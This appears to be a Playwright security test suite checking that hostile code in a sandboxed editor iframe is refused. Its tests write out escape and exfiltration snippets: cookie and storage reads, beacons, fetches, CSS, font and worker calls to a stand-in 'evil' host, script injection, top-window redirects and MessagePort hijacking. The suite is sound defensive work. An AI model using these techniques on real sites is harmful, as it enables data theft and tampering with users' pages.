/** What a hostile block may try in the canvas, one test an attempt. */
import { expect } from '@playwright/test'
import {
  attempt,
  evil,
  expectUnharmed,
  formTo,
  frameOf,
  packetsOf,
  packetTo,
  scriptWith,
  standingFrame,
  test,
} from './escape-ground.ts'

const framed = (source: string): string =>
  `await new Promise((done) => {
    const f = document.createElement('iframe'); ${source}; f.onload = () => done(f.contentWindow); document.body.append(f)
  })`

const styleWith = (rules: string, tells: string): string =>
  `const over = refusal('?${tells}'); const s = document.createElement('style'); s.textContent = '${rules}'
   document.head.append(s); await over; s.remove()`

const workerWith = (does: string): string => {
  const text = `(async () => { ${does} })().then(() => postMessage('works'), () => postMessage('refused'))`
  return `return await new Promise((yes, no) => {
    const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}])))
    w.onmessage = ({ data }) => (data === 'works' ? yes(data) : no(new Error(data)))
    w.onerror = () => no(new Error('refused'))
  })`
}

test.describe('a hostile block in the canvas', () => {
  test.describe.configure({ timeout: 30_000, retries: 0 })
  for (const [name, code] of [
    ['reads the editor’s document', 'return parent.document.body.innerHTML'],
    ['reads the document at the top', 'return top.document.cookie'],
    ['reads the editor’s storage', 'return parent.localStorage.getItem("shopwright.tour")'],
    ['finds who opened it', 'return window.opener?.location.href'],
    ['finds the element that holds it', 'return window.frameElement?.outerHTML'],
    ['reads cookies', 'return document.cookie || undefined'],
    ['sets a cookie', 'document.cookie = "a=b"; return document.cookie || undefined'],
    ['keeps something in local storage', 'localStorage.setItem("a", "b"); return localStorage.getItem("a")'],
    ['keeps something for the session', 'sessionStorage.setItem("a", "b"); return sessionStorage.getItem("a")'],
    [
      'opens a database',
      'return await new Promise((yes, no) => { const r = indexedDB.open("a"); r.onsuccess = () => yes("open"); r.onerror = no })',
    ],
    ['opens a cache', 'return (await caches.open("a")) && "open"'],
    [
      'registers a service worker',
      'return (await navigator.serviceWorker.register("/runtime/frame.html")) && "registered"',
    ],
    ['asks for a file of the browser', 'return (await navigator.storage.getDirectory()) && "open"'],
    ['opens a window', 'return window.open("about:blank") && "opened"'],
    ['opens the platform in a window', 'return window.open("/") && "opened"'],
    ['shows a dialog of the browser', 'return window.prompt("Password?", "typed")'],
    ['leads the editor away', `top.location = '${evil}/?top'`],
    ['replaces the editor', `parent.location.replace('${evil}/?replace')`],
    ['sends a form away', formTo(`${evil}/?self`)],
    ['asks the platform who is signed in', 'return await (await fetch("/api/me", { credentials: "include" })).text()'],
    ['fetches from elsewhere', `return await (await fetch('${evil}/?fetch', { mode: 'no-cors' })).type`],
    [
      'asks by the old way',
      `return await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes(x.responseText); x.onerror = no; x.open('GET', '/api/me'); x.send() })`,
    ],
    [
      'opens a socket to the documents',
      'return await new Promise((yes, no) => { const s = new WebSocket(`ws://${location.host}/collab/x`); s.onopen = () => yes("open"); s.onerror = no })',
    ],
    [
      'listens to events',
      'return await new Promise((yes, no) => { const s = new EventSource("/api/me"); s.onopen = () => yes("open"); s.onerror = no })',
    ],
    [
      'sends a beacon',
      `const over = refusal('${evil}'); navigator.sendBeacon('${evil}/?beacon', 'secret'); await over`,
    ],
    [
      'tells by a picture',
      `const i = new Image(); i.src = '${evil}/?picture'; await new Promise((done) => { i.onload = i.onerror = done })`,
    ],
    ['tells by a style', styleWith(`body{background:url(${evil}/?css)}`, 'css')],
    ['reads texts by style rules that load', styleWith(`[class^="sw"]{background:url(${evil}/?class-sw)}`, 'class-sw')],
    ['loads styles from elsewhere', styleWith(`@import "${evil}/?import"`, 'import')],
    ['loads a font that tells', `await new FontFace('x', 'url(${evil}/?font)').load(); return 'loaded'`],
    // Code blocks run in workers from text, so there may be some; they stand behind the same walls.
    ['tells by a worker from text', workerWith(`await fetch('${evil}/?worker', { mode: 'no-cors' })`)],
    ['loads code into a worker from text', workerWith(`importScripts('${evil}/x.js')`)],
    [
      'opens a line from a worker from text',
      workerWith(
        `await new Promise((done, no) => { const s = new EventSource('${evil}/?line'); s.onopen = done; s.onerror = no })`,
      ),
    ],
    ['runs text as code', 'return (0, eval)("1 + 1")'],
    ['makes a function of text', 'return new Function("return 2")()'],
    ['adds a script of its own', scriptWith('s.textContent = "window.pwned = 1"')],
    ['adds a script from a data address', scriptWith('s.src = "data:text/javascript,window.pwned=1"')],
    ['adds a script from a blob', scriptWith('s.src = URL.createObjectURL(new Blob(["window.pwned=1"]))')],
    ['adds a script from elsewhere', scriptWith(`s.src = '${evil}/x.js'`)],
    ['frames the platform', frameOf('f.src = "/"')],
    [
      'frames a page of its own without the walls',
      `let said; addEventListener('message', ({ data }) => { said = data })
       const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage("out","*")<\\/script>'
       const loaded = new Promise((done) => { f.onload = done }); document.body.append(f)
       await loaded; await turn(); f.remove(); return said`,
    ],
    [
      'reads a frame of its own as its own',
      `const f = document.createElement('iframe'); document.body.append(f)
       try { return f.contentWindow.document.URL } finally { f.remove() }`,
    ],
    ['takes the camera', 'return (await navigator.mediaDevices.getUserMedia({ video: true })) && "seen"'],
    ['fills the screen', 'await document.documentElement.requestFullscreen(); return "full"'],
    ['lifts its own walls', 'document.domain = "localhost"; return document.domain'],
  ] as const)
    test(name, async ({ ground }) => {
      expect(await attempt(await standingFrame(ground), code)).toBe('refused')
      await expectUnharmed(ground)
    })

  for (const [name, code] of [
    [
      'leads the editor away by a link',
      `const a = document.createElement('a'); a.href = '${evil}/?link'; a.target = '_top'; document.body.append(a); a.click(); a.remove()`,
    ],
    [
      'leads the editor away by a form',
      `const f = document.createElement('form'); f.action = '${evil}/?form'; f.target = '_top'; document.body.append(f); f.submit(); f.remove()`,
    ],
  ] as const)
    test(name, async ({ ground }) => {
      const frame = await standingFrame(ground)
      // Only the browser's own complaint says that this was refused.
      const refused = ground.studio.waitForEvent('console', (said) => /navigat/i.test(said.text()))
      expect(await attempt(frame, code)).toBe('refused')
      await refused
      await expectUnharmed(ground)
    })

  for (const [name, world] of [
    ['tells by a packet of WebRTC', 'window'],
    ['tells by a packet from an empty frame', framed('')],
    ['tells by a packet from a frame of its own text', framed('f.srcdoc = "<p>x"')],
  ] as const)
    test(name, async ({ ground }) => {
      const frame = await standingFrame(ground)
      const sent = await packetsOf(ground, async (port) =>
        expect(await attempt(frame, `const world = ${world}; ${packetTo(port, 'world')}`)).toBe('refused'),
      )
      expect(sent).toBe(0)
      await expectUnharmed(ground)
    })

  test('leads its own frame away: it begins anew, and the person is told', async ({ ground }) => {
    const { studio } = ground
    const frame = await standingFrame(ground)
    expect(await attempt(frame, `location.replace('${evil}/?away'); await new Promise(() => {})`)).toBe('refused')
    await expect(studio.getByText('A block stopped the page from being shown')).toBeVisible()
    await standingFrame(ground)
    // Not only drawn: it follows the editor again.
    await frame.locator('[data-node]').first().waitFor()
    await expectUnharmed(ground)
  })

  test('forges a greeting to the editor, with a port of its own', async ({ ground }) => {
    const code = `const { port1, port2 } = new MessageChannel(); let heard
      port1.onmessage = ({ data }) => { heard = JSON.stringify(data) }
      const reached = new Promise((done) => addEventListener('message', ({ data }) => data === 'reached' && done()))
      parent.postMessage({ kind: 'shopwright:frame', nonce: '0123456789abcdef0' }, '*', [port2])
      await reached; await turn(); return heard`
    // Hears the greeting after whatever of the editor listens.
    await ground.studio.evaluate(() => {
      addEventListener('message', (event) => (event.source as Window).postMessage('reached', '*'), { once: true })
    })
    expect(await attempt(await standingFrame(ground), code)).toBe('refused')
    await expectUnharmed(ground)
  })

  test('greets itself once more, with another nonce', async ({ ground }) => {
    const code = `const { port1, port2 } = new MessageChannel(); let heard
      port1.onmessage = ({ data }) => { heard = JSON.stringify(data) }
      const reached = new Promise((done) => addEventListener('message', done, { once: true }))
      window.postMessage({ kind: 'shopwright:frame', nonce: 'fedcba98765432100' }, '*', [port2])
      await reached; await turn(); return heard`
    expect(await attempt(await standingFrame(ground), code)).toBe('refused')
    await expectUnharmed(ground)
  })

  test('takes hold of the editor’s port and types where nobody types', async ({ ground }) => {
    const { studio } = ground
    const frame = await standingFrame(ground)
    const title = frame.locator('h1, h2').nth(1)
    const before = await title.textContent()
    await frame.evaluate(`(() => {
      const real = MessagePort.prototype.postMessage
      MessagePort.prototype.postMessage = function (...message) { window.stolen = this; return real.apply(this, message) }
    })()`)
    // It grows, measures itself and says so.
    await frame.evaluate(`document.querySelector('[data-node]').style.paddingTop = '40px'`)
    await expect.poll(() => frame.evaluate('window.stolen !== undefined')).toBe(true)
    await frame.evaluate(`(() => {
      for (const node of document.querySelectorAll('[data-node]')) for (const prop of ['text', 'title'])
        window.stolen.postMessage({ kind: 'text-input', nodeId: node.dataset.node, prop, value: 'Pay to evil.example', base: '' })
      window.stolen.postMessage({ kind: 'view-failed', nodeId: 'x'.repeat(1e6), message: 'y'.repeat(1e6) })
      window.stolen.postMessage({ kind: 'no-such-thing' })
    })()`)
    await studio.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))))
    expect(await title.textContent()).toBe(before)
    expect(await frame.locator('body').textContent()).not.toContain('Pay to evil')
    await expectUnharmed(ground)
  })
})
